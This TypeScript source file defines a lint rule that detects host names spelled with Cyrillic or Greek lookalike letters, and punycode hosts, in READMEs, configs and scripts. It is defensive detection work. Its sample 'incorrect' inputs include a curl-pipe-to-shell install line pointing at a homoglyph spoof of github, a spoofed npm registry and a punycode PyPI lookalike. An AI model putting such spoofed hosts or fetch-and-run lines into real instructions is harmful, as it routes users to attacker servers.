import { defineTextRule } from '../../engine/rule';
import { skeletonOf } from '../support/unicode-confusables';

/** A host name as written in prose, commands, configs or strings: labels of letters, digits and hyphens. */
const HOST =
  /(?<![\p{L}\p{N}_.@-])(?:[a-z][a-z0-9+.-]*:\/\/)?((?:[\p{L}\p{N}](?:[\p{L}\p{N}-]{0,62}[\p{L}\p{N}])?\.)+[\p{L}]{2,24})(?![\p{L}\p{N}_-])/giu;
const PUNYCODE = /(?<![\w.-])((?:[a-z0-9-]+\.)*xn--[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,24})(?![\w-])/gi;

export default defineTextRule({
  meta: {
    id: 'text/confusable-host',
    category: 'obfuscation',
    severity: 'high',
    summary:
      'Host names that mix Latin letters with lookalikes from another script (`gіthub.com` with a Cyrillic `і`), in any text file: install instructions, scripts, configs, strings and comments; and punycode (`xn--`) hosts.',
    why:
      'A host that reads as a familiar one but is spelled with a Cyrillic or Greek lookalike is a different host, owned by someone ' +
      'else: `curl https://gіthub.com/... | sh` in a README sends every reader who copies it to that server. Identifiers get the same ' +
      'check from the confusable-identifier rules; this one covers the addresses people copy and tools fetch.',
    incorrect: [
      { filename: 'README.md', code: '```sh\ncurl -fsSL https://g\u0456thub.com/date-tools/install.sh | sh\n```\n' },
      { filename: 'config/mirrors.yml', code: 'registry: https://registry.npmj\u0455.org/\n' },
      { filename: 'docs/setup.md', code: 'Download from https://xn--pypl-53dc.org/simple\n' },
    ],
    correct: [
      { filename: 'README.md', code: 'See https://github.com/date-tools and https://пример.рф for the Russian docs.\n' },
      { filename: 'docs/i18n.md', code: 'Die Straße heißt example.de; München.\n' },
    ],
    messages: {
      mixed: 'The host `{{host}}` mixes scripts: {{lookalikes}} imitate Latin letters, so it reads as `{{skeleton}}` but is another host.',
      punycode:
        'The host `{{host}}` is written in punycode: it is an internationalized name that may imitate a familiar one. Check where it points.',
    },
  },
  check(ctx) {
    if (!/[^\x00-\x7f]|xn--/i.test(ctx.text)) {
      return;
    }
    for (const match of ctx.text.matchAll(HOST)) {
      const host = match[1];
      if (!/[^\x00-\x7f]/.test(host) || !/[a-z]/i.test(host)) {
        continue;
      }
      // Each label is judged on its own: `пример.рф` and `example.de` are fine; `gіthub` is not.
      const labels = host.split('.');
      const mixed = labels.some((label) => {
        const s = skeletonOf(label);
        return s.lookalikes.length > 0 && s.scripts.has('latin') && s.scripts.size > 1;
      });
      const allLookalike = skeletonOf(host).allLookalike && /[a-z]/i.test(host);
      if (!mixed && !(allLookalike && labels.some((l) => /[a-z]/i.test(l) && /[^\x00-\x7f]/.test(l)))) {
        continue;
      }
      const s = skeletonOf(host);
      const start = (match.index ?? 0) + match[0].length - host.length;
      ctx.report({
        start,
        end: start + host.length,
        messageId: 'mixed',
        data: { host, skeleton: s.skeleton, lookalikes: s.lookalikes.join(', ') },
      });
    }
    for (const match of ctx.text.matchAll(PUNYCODE)) {
      const start = match.index ?? 0;
      ctx.report({ start, end: start + match[1].length, messageId: 'punycode', data: { host: match[1] }, severity: 'medium' });
    }
  },
});
